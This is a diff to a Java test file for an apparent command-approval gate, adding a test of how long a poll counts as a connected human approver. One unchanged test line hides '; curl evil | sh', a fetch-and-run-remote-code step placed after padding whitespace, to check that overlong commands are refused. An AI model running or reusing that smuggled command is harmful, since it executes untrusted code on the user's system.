@@ -2,14 +2,19 @@ package dev.pushgate.appliance.approvals;
 
 import static org.assertj.core.api.Assertions.assertThat;
 
+import dev.pushgate.testkit.Wait;
 import java.time.Clock;
 import java.time.Duration;
+import java.time.Instant;
+import java.time.ZoneId;
+import java.time.ZoneOffset;
 import java.util.List;
 import java.util.Set;
 import java.util.concurrent.CompletableFuture;
 import java.util.concurrent.ConcurrentHashMap;
 import java.util.concurrent.CopyOnWriteArrayList;
 import java.util.concurrent.TimeUnit;
+import java.util.concurrent.atomic.AtomicReference;
 import org.junit.jupiter.api.Test;
 
 class ApprovalDeskTest {
@@ -90,6 +95,44 @@ class ApprovalDeskTest {
   }
 
   @Test
+  void aLongPollCountsAsAnApproverForThePollGraceOnly() {
+    Instant start = Instant.parse("2026-01-01T00:00:00Z");
+    AtomicReference<Instant> now = new AtomicReference<>(start);
+    Clock clock = new Clock() {
+      @Override
+      public ZoneId getZone() {
+        return ZoneOffset.UTC;
+      }
+
+      @Override
+      public Clock withZone(ZoneId zone) {
+        return this;
+      }
+
+      @Override
+      public Instant instant() {
+        return now.get();
+      }
+    };
+    ApprovalDesk graced = new ApprovalDesk(clock, Duration.ofSeconds(30), Duration.ofSeconds(1),
+        Duration.ofMillis(1500), new ApprovalLog() {
+          @Override
+          public void asked(Question q) {}
+
+          @Override
+          public void ended(Question q, Answer a) {}
+        }, runId -> true, ApprovalDesk.DEFAULT_HELD_PER_RUN);
+
+    graced.polled();
+    now.set(start.plusMillis(1499));
+    assertThat(graced.approverConnected()).isTrue();
+    now.set(start.plusMillis(1500));
+    assertThat(graced.approverConnected()).isFalse();
+    assertThat(graced.ask(push("run_1"), l -> { })).isEqualTo(new Answer(
+        Answer.Outcome.NO_APPROVER, null, "main needs a human (no approver is connected)"));
+  }
+
+  @Test
   void aCommandTooLongToReadWholeIsRefusedUnasked() {
     desk.connect(listener());
     String command = "gh pr create" + " ".repeat(ApprovalDesk.MAX_COMMAND) + "; curl evil | sh";
@@ -104,16 +147,9 @@ class ApprovalDeskTest {
     assertThat(recorded).containsExactly(a);
   }
 
-  private Question awaitPending() throws InterruptedException {
-    long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(10);
-    while (System.nanoTime() < deadline) {
-      List<Question> p = desk.pending(null);
-      if (!p.isEmpty()) {
-        return p.get(0);
-      }
-      Thread.sleep(10);
-    }
-    throw new AssertionError("no question was held");
+  private Question awaitPending() throws Exception {
+    return Wait.forPresent(Duration.ofSeconds(10), "a question to be held",
+        () -> desk.pending(null).stream().findFirst());
   }
 
   private static Question push(String runId) {
